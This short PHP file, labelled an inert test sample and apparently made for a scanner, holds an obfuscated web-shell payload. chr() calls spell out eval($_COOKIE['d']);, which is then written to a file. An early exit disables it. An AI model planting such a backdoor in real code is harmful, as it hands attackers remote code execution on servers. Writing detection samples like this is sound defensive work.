<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs
$q = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36).chr(95).chr(67).chr(79).chr(79).chr(75).chr(73).chr(69).chr(91).chr(39).chr(100).chr(39).chr(93).chr(41).chr(59);
file_put_contents('v.tmp', $q);
